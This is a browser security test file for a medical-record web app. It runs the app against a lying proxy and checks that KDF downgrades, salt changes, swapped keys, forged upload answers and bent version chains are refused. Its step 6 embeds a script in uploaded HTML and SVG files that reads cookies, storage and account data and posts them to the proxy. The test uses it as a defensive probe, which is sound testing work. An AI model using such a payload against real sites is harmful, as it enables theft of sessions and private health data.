// The web app against a lying server (docs/crypto.md, "Malicious server"):
// internal/evilproxy between Chromium and a real `akte serve` rewrites the
// answers and records every request. A KDF downgrade gets no login secret
// out of the page, nor does a downgrade below what this browser used
// before; an upload answered for another item is refused; and an HTML or
// SVG document — whose scripts, with the CSP stripped for the test, report
// whatever they can reach — reaches nothing of the app's origin.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { text } from '../src/catalog.js';
import { startServer, evilProxy, launch, account, login, code, cli, axe, confirmDevice, unlock, uploadFiles } from './helpers.mjs';

// noLoginSecret asserts that the page sent no login to the server and no
// body with a login secret, after the proxy saw the prelogin (so that the
// test can fail).
async function noLoginSecret(ev, what) {
  const reqs = await ev.requests();
  assert.ok(
    reqs.some((r) => r.path === '/api/v1/prelogin'),
    `${what}: no prelogin passed the proxy`,
  );
  for (const r of reqs) {
    assert.ok(!(r.method === 'POST' && r.path.startsWith('/api/v1/sessions')), `${what}: ${r.method} ${r.path} reached the server`);
    assert.ok(!r.body.includes('login_secret'), `${what}: ${r.method} ${r.path} carried a login secret`);
  }
}

test('a lying server gets no login secret, no wrong answer accepted, and no preview that acts', async (t) => {
  const srv = await startServer(t);
  const ev = await evilProxy(t, srv.url);
  const a = await account(ev.url, 'lying@example.org');
  const browser = await launch(t);
  const ctx = await browser.newContext({ locale: 'de-DE' });
  const page = await ctx.newPage();
  const errors = [];
  page.on('pageerror', (e) => errors.push(e.message));

  // 1. Argon2id with m = 8 KiB, t = 1, p = 1 in the prelogin answer.
  await ev.rule({ method: 'POST', path: '/api/v1/prelogin', merge: { kdf: { memory: 8, time: 1, threads: 1 } } });
  await ev.clearRequests();
  await login(page, ev.url, a, await code(a.secret, { use: false }));
  await page.getByText('schwächere Absicherung Ihres Passworts als erlaubt').waitFor({ timeout: 30000 });
  await page.getByText('Es wurde nichts gesendet').waitFor();
  await noLoginSecret(ev, 'm=8 KiB');
  await axe(page, 'KDF refusal', assert);
  await page.getByRole('button', { name: 'English' }).click();
  await page.getByRole('button', { name: 'Log in', exact: true }).click();
  await page.getByText('weaker protection of your password than allowed (Argon2id memory = 8, at least 65536)').waitFor({ timeout: 30000 });
  await page.getByRole('button', { name: 'Deutsch' }).click();
  await noLoginSecret(ev, 'm=8 KiB, again');
  await ev.reset();

  // 2. An honest login (a new device: confirmed by the mailed link).
  await login(page, ev.url, a, await code(a.secret, { use: false }));
  await page.getByText('Neues Gerät').waitFor({ timeout: 30000 });
  await confirmDevice(srv.url, a.email);
  await login(page, ev.url, a, await code(a.secret));
  await page.getByRole('heading', { name: 'Meine Akte' }).waitFor({ timeout: 30000 });
  const kdfKey = 'akte.kdf.' + a.email;
  const used = JSON.parse(await page.evaluate((k) => localStorage.getItem(k), kdfKey));
  assert.equal(used.memory, 65536, 'the browser remembers the parameters it used');

  // 3. Below what this browser used before (as if it had used stronger
  // ones): refused although above the floor.
  await page.getByRole('button', { name: 'Abmelden', exact: true }).click();
  await page.getByText('Sie sind abgemeldet.').waitFor();
  await page.evaluate(([k, v]) => localStorage.setItem(k, JSON.stringify(v)), [kdfKey, { ...used, memory: 131072 }]);
  await ev.clearRequests();
  await login(page, ev.url, a, await code(a.secret, { use: false }));
  await page.getByText('als bei der letzten Anmeldung auf diesem Gerät (Argon2id-Parameter memory = 65536, zuletzt 131072)').waitFor({ timeout: 30000 });
  await noLoginSecret(ev, 'below the remembered parameters');

  // 4. A salt this browser did not choose: refused until the person says
  // the password was changed on another device; then the login goes on.
  const otherSalt = Buffer.from(used.salt, 'base64').map((b) => b ^ 1).toString('base64');
  await page.evaluate(([k, v]) => localStorage.setItem(k, JSON.stringify(v)), [kdfKey, { ...used, salt: otherSalt }]);
  await ev.clearRequests();
  await page.getByRole('button', { name: 'Anmelden', exact: true }).click();
  await page.getByText('nicht von diesem Gerät').waitFor({ timeout: 30000 });
  await noLoginSecret(ev, 'new salt');
  await axe(page, 'salt changed', assert);
  await page.getByLabel('Ich habe mein Passwort auf einem anderen Gerät geändert oder zurückgesetzt.').check();
  await page.getByLabel('Code aus der Authenticator-App').fill(await code(a.secret));
  await page.getByRole('button', { name: 'Anmelden', exact: true }).click();
  await page.getByRole('heading', { name: 'Meine Akte' }).waitFor({ timeout: 30000 });
  assert.equal(JSON.parse(await page.evaluate((k) => localStorage.getItem(k), kdfKey)).salt, used.salt, 'the real salt is remembered again');

  // 5. An upload whose completion is answered for another item.
  await ev.rule({ method: 'POST', path: '/api/v1/records/[a-z0-9]+/uploads/[a-z0-9]+/complete', merge: { id: 'someone-elses-item' } });
  await uploadFiles(page, { name: 'Laborwerte.txt', mimeType: 'text/plain', buffer: Buffer.from('Hb 14,1') });
  await page.getByText(/fehlgeschlagen: .*someone-elses-item.*verworfen/).waitFor({ timeout: 30000 });
  await ev.reset();

  // 6. Documents that try to act: HTML and SVG with scripts that report
  // what they reach to the proxy (recorded as /__report...). The CSP is
  // stripped on the way, so that only the preview's own design stops them.
  const report = (name) => `
    const got = {};
    const probe = (k, f) => { try { got[k] = String(f()).slice(0, 300); } catch (e) { got[k] = 'blocked: ' + e.name; } };
    probe('origin', () => location.origin);
    probe('parentSession', () => JSON.stringify(parent.sessionStorage));
    probe('local', () => JSON.stringify(localStorage));
    probe('cookie', () => document.cookie);
    probe('parentDocument', () => parent.document.title);
    fetch('${ev.url}/api/v1/account', { credentials: 'include' }).then((r) => r.text(), (e) => 'blocked: ' + e)
      .then((b) => { got.account = b.slice(0, 300); })
      .finally(() => fetch('${ev.url}/__report-${name}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(got) }));`;
  const htmlDoc = `<!doctype html><html><body><h1>Befund</h1><a href="https://example.org/" target="_top">Weiter</a><script>${report('html')}</script></body></html>`;
  const svgDoc = `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="60"><rect width="120" height="60" fill="#c33"/><script>${report('svg')}</script></svg>`;
  writeFileSync(join(a.home, 'befund.html'), htmlDoc);
  writeFileSync(join(a.home, 'skizze.svg'), svgDoc);
  await cli(ev.url, a.home, ['login', '--email', a.email, '--totp', await code(a.secret)], a.env);
  await cli(ev.url, a.home, ['upload', join(a.home, 'befund.html'), join(a.home, 'skizze.svg'), '--category', 'findings']);
  await ev.rule({ path: '.*', drop_headers: ['Content-Security-Policy'] });
  await page.reload();
  await unlock(page, a.password);
  await page.getByRole('heading', { name: 'Meine Akte' }).waitFor({ timeout: 30000 });
  const reports = async (name) => (await ev.requests()).filter((r) => r.path === '/__report-' + name);

  // The control: the same HTML as a document of the app's origin (what a
  // blob: preview without a sandbox was) reports the account. So a silent
  // preview below is silent because it cannot act, not because the probe
  // is broken.
  const blobURL = await page.evaluate((doc) => URL.createObjectURL(new Blob([doc], { type: 'text/html' })), htmlDoc);
  const control = await ctx.newPage();
  await control.goto(blobURL);
  for (let i = 0; i < 50 && (await reports('html')).length === 0; i++) await page.waitForTimeout(100);
  const [leak] = await reports('html');
  assert.ok(leak, 'the probe reports from a document in the app origin');
  assert.match(leak.body.toString(), /lying@example\.org/, 'such a document reads the account');
  await control.close();
  await ev.clearRequests();

  // The preview of the HTML document: no script ran, and it is plain
  // text, no frame.
  await page.getByRole('button', { name: 'Ansehen: befund.html' }).click();
  await page.getByTestId('preview').waitFor({ timeout: 30000 });
  await page.waitForTimeout(2000);
  assert.deepEqual((await reports('html')).map((r) => r.body.toString()), [], 'the HTML preview ran nothing');
  const pre = page.locator('pre[data-testid=preview]');
  assert.match(await pre.textContent(), /<script>/, 'the HTML is shown as its text');
  assert.equal(await page.locator('iframe').count(), 0, 'no frame in the app');
  assert.equal(page.frames().length, 1);
  await axe(page, 'HTML preview', assert);
  await page.getByRole('button', { name: 'Zurück zur Akte' }).click();

  // The SVG: an image, from a data: URL; opened on its own it is a
  // document of an opaque origin, which reaches nothing of the app's.
  await page.getByRole('button', { name: 'Ansehen: skizze.svg' }).click();
  const img = page.locator('img[data-testid=preview]');
  await img.waitFor({ timeout: 30000 });
  assert.equal(await img.evaluate((i) => i.complete && i.naturalWidth), 120);
  const src = await img.getAttribute('src');
  assert.match(src, /^data:image\/svg\+xml;base64,/);
  await page.waitForTimeout(2000);
  assert.deepEqual((await reports('svg')).map((r) => r.body.toString()), [], 'the SVG as an image ran nothing');
  const alone = await ctx.newPage();
  // Chromium may refuse a top-level data: URL outright; if it shows it,
  // the document's origin is opaque.
  const opened = await alone.goto(src).then(
    async () => 'shown, origin ' + (await alone.evaluate(() => location.origin)),
    (e) => 'refused: ' + e.message.split('\n')[0],
  );
  t.diagnostic(`the SVG opened alone: ${opened}`);
  assert.match(opened, /^(refused|shown, origin null$)/);
  for (let i = 0; i < 30 && (await reports('svg')).length === 0; i++) await page.waitForTimeout(100);
  t.diagnostic(`the SVG opened alone reported ${(await reports('svg')).map((r) => r.body.toString()).join(' ') || 'nothing'}`);
  for (const r of await reports('svg')) {
    const got = JSON.parse(r.body.toString());
    assert.equal(got.origin, 'null', 'the SVG opened alone has an opaque origin');
    assert.doesNotMatch(r.body.toString(), /lying@example\.org|akte\.|account_id/, `the SVG opened alone reached ${r.body}`);
  }
  await alone.close();
  await page.getByRole('button', { name: 'Zurück zur Akte' }).click(); // a reload stays on the page it shows

  // 7. Public keys the server swapped for one of its own: the record's
  // (what practices, apps and the insurer seal to), refused whenever the
  // record opens; the account's, refused at login.
  const evilKey = Buffer.alloc(1220, 7).toString('base64');
  await ev.rule({ method: 'GET', path: '/api/v1/records/[a-z0-9]+', merge: { keys: { public_key: evilKey } } });
  await page.reload();
  await unlock(page, a.password);
  await page.getByText(text('de', 'record_key_substituted')).waitFor({ timeout: 30000 });
  await axe(page, 'record key swapped', assert);
  await ev.reset();
  await page.reload();
  await unlock(page, a.password);
  await page.getByRole('heading', { name: 'Meine Akte' }).waitFor({ timeout: 30000 });
  await page.getByRole('button', { name: 'Abmelden', exact: true }).click();
  await page.getByText('Sie sind abgemeldet.').waitFor();
  await ev.rule({ method: 'POST', path: '/api/v1/sessions', merge: { keys: { public_key: evilKey } } });
  await login(page, ev.url, a, await code(a.secret));
  await page.getByText(text('de', 'account_key_substituted')).waitFor({ timeout: 30000 });
  assert.equal(await page.getByRole('heading', { name: 'Meine Akte' }).count(), 0, 'the record did not open');
  await ev.reset();

  // 8. A version chain the server bent: the letter listed as a new version
  // of the finding. The page says so and keeps the sealed chain: the
  // finding stays a document of its own.
  writeFileSync(join(a.home, 'befund-1.txt'), 'Befund, erste Fassung');
  writeFileSync(join(a.home, 'befund-2.txt'), 'Befund, zweite Fassung');
  writeFileSync(join(a.home, 'brief.txt'), 'Arztbrief');
  const upload = async (file, ...args) => JSON.parse(await cli(ev.url, a.home, ['upload', join(a.home, file), '--json', ...args]))[0].id;
  const v1 = await upload('befund-1.txt', '--category', 'findings');
  await upload('befund-2.txt', '--category', 'findings', '--replaces', v1);
  const letter = await upload('brief.txt', '--category', 'letters');
  await login(page, ev.url, a, await code(a.secret));
  await page.getByRole('heading', { name: 'Meine Akte' }).waitFor({ timeout: 30000 });
  await page.getByText('Fassung 2').first().waitFor({ timeout: 30000 });
  await ev.rule({ method: 'GET', path: '/api/v1/records/[a-z0-9]+/items', replace: [`"id":"${letter}"`, `"id":"${letter}","replaces":"${v1}"`] });
  await page.reload();
  await unlock(page, a.password);
  await page.getByTestId('chain-problems').getByText(text('de', 'replaces_forged', { item: letter })).waitFor({ timeout: 30000 });
  await page.getByRole('button', { name: 'Ansehen: brief.txt' }).waitFor();
  assert.equal(await page.getByText('Fassung 3').count(), 0, 'the forged link makes no third copy');
  await axe(page, 'version chain bent', assert);
  await ev.reset();
  assert.deepEqual(errors, []);
});
